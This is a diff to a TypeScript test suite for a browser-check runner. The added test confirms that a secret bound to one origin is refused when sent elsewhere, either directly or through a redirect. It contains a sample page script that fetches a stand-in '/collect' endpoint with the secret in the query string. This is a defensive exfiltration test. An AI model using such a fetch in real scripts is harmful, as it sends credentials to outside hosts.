@@ -14,6 +14,7 @@ import { withSecrets } from '../../agent/secrets/apply.ts';
 import { createBrowserRunner, type BrowserRunner } from '../../agent/runners/browser/runner.ts';
 import { validateDefinitions } from '../../coordinator/registry/definitions.ts';
 import { browserCheck, loadProject, removeProjects } from '../support/browser-checks.ts';
+import { startHttpTarget, type TestTarget } from '../support/http-targets.ts';
 import { startTestSite, type TestSite } from '../support/pages.ts';
 import { isAlive } from '../support/processes.ts';
 import { waitUntil } from '../support/wait.ts';
@@ -140,6 +141,37 @@ describe('at run time, a script that gets past the static check finds nothing', 
     }
     expect(runner.stats().relayRefused).toBeGreaterThanOrEqual(2);
   }, 60_000);
+
+  it('aborts a request that would carry a secret bound to origins to another origin, and fails a run whose redirect hop carried it: SECRET_ORIGIN_DENIED', async () => {
+    const hits: string[] = [];
+    const elsewhere: TestTarget = await startHttpTarget((req, res) => { hits.push(`elsewhere ${req.url}`); res.writeHead(200, { 'content-type': 'text/html' }).end('<h1>got it</h1>'); });
+    const home: TestTarget = await startHttpTarget((req, res) => {
+      hits.push(`home ${req.url}`);
+      if (req.url === '/away') res.writeHead(302, { location: elsewhere.url('/landing') }).end();
+      else res.writeHead(200, { 'content-type': 'text/html' }).end('<h1>home</h1>');
+    });
+    const origins = { STRIPE_KEY: [new URL(home.url('/')).origin] };
+    const bound = createBrowserRunner({ concurrency: 1, secrets: { STRIPE_KEY: 'sk_live_bound' }, secretOrigins: origins });
+    const runBound = (definition: BrowserCheckDefinition) => runCheckOnce(definition, { runners: withSecrets(runnerTable({ browser: bound.run }), { STRIPE_KEY: 'sk_live_bound' }, origins) });
+    try {
+      // Sent to its own origin: fine.
+      const own = await runBound(await browserCheck('own', `await page.setExtraHTTPHeaders({ 'x-key': secrets.STRIPE_KEY }); await page.goto('${home.url('/')}');`, { timeout: '20s' }));
+      expect(own.outcome, JSON.stringify(own.error)).toBe('pass');
+      // Straight to another origin, from the page itself: stopped before it is sent.
+      hits.length = 0;
+      const direct = await runBound(await browserCheck('direct', `await page.goto('${home.url('/')}'); await page.evaluate((k) => fetch('${elsewhere.url('/collect')}?k=' + k).catch(() => {}), secrets.STRIPE_KEY);`));
+      expect(direct.error?.code).toBe('SECRET_ORIGIN_DENIED');
+      expect(direct.error!.message).toBe(`request to ${new URL(elsewhere.url('/')).origin} refused: it carries secret "STRIPE_KEY", which this agent sends only to ${origins.STRIPE_KEY[0]}`);
+      expect(hits.filter((hit) => hit.startsWith('elsewhere'))).toEqual([]);
+      // A redirect hop Chromium follows by itself (Playwright does not route it): the run fails, saying so.
+      const hop = await runBound(await browserCheck('hop', `await page.setExtraHTTPHeaders({ 'x-key': secrets.STRIPE_KEY }); await page.goto('${home.url('/away')}');`));
+      expect(hop.error?.code, JSON.stringify(hop.error)).toBe('SECRET_ORIGIN_DENIED');
+      expect(hop.error!.message).toMatch(/sent it following a redirect from/);
+    } finally {
+      await bound.close();
+      await Promise.all([home.close(), elsewhere.close()]);
+    }
+  }, 90_000);
 
   it('kills a synchronous infinite loop at the deadline: TIMEOUT, and its process is gone', async () => {
     const before = new Set(runner.sandboxPids());
